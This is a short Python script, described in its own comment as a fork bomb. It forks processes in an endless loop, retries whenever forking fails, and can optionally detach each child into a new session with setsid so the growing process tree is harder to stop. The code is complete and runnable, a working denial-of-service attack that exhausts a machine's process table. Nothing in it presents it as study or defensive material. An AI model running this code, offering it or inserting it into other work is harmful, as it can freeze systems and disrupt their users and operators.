# A fork bomb: every process makes others for as long as it is allowed. With `setsid` as argument, each leaves its
# session too.
import os, sys, time

while True:
    try:
        if os.fork() == 0 and "setsid" in sys.argv:
            os.setsid()
    except OSError:
        time.sleep(0.001)
